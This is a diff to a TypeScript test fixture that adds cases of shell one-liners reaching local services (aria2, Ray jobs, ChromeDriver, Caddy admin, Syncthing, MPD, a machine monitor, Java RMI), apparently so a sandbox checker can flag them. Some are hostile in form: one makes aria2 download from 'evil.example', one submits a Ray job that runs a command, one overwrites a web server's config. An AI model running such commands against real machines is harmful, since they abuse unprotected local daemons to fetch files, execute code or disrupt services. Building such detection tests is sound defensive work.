@@ -67,6 +67,39 @@ export const loopbackCases: readonly BorrowedCase[] = family("loopback", [
     "code of one line",
     `node -e 'require("http").get("http://127.0.0.1:2375/_ping").on("error", () => 0)'`,
   ),
+  asks(
+    "download",
+    "a server of downloads writes any file",
+    `curl -s -m 2 http://127.0.0.1:6800/jsonrpc -d '{"jsonrpc":"2.0","id":"1","method":"aria2.addUri","params":[["http://evil.example/x"]]}'`,
+  ),
+  asks(
+    "jobs",
+    "a cluster of jobs runs what it is told",
+    `curl -s -m 2 http://127.0.0.1:8265/api/jobs/ -d '{"entrypoint":"id"}'`,
+  ),
+  asks(
+    "driver",
+    "a driver of browsers",
+    `curl -s -m 2 http://127.0.0.1:9515/session -d '{"capabilities":{}}'`,
+  ),
+  asks("driver-grid", "a grid of them", "curl -s -m 2 http://127.0.0.1:4444/status"),
+  asks(
+    "web-server",
+    "the settings of a web server",
+    "curl -s -m 2 -X POST http://127.0.0.1:2019/load -d '{}'",
+  ),
+  asks(
+    "files-shared",
+    "a program that shares files",
+    "curl -s -m 2 http://127.0.0.1:8384/rest/config",
+  ),
+  asks("player", "a program that plays and runs", "printf 'close\\n' | nc -w 1 127.0.0.1 6600"),
+  asks("monitor", "the monitor of a machine", "printf 'quit\\n' | nc -w 1 127.0.0.1 4444"),
+  asks(
+    "objects-of-java",
+    "objects of a program in Java",
+    "timeout 2 nc -w 1 127.0.0.1 1099 < README.md",
+  ),
   {
     id: "loopback-make",
     title: "a target of the Makefile asks the engine",
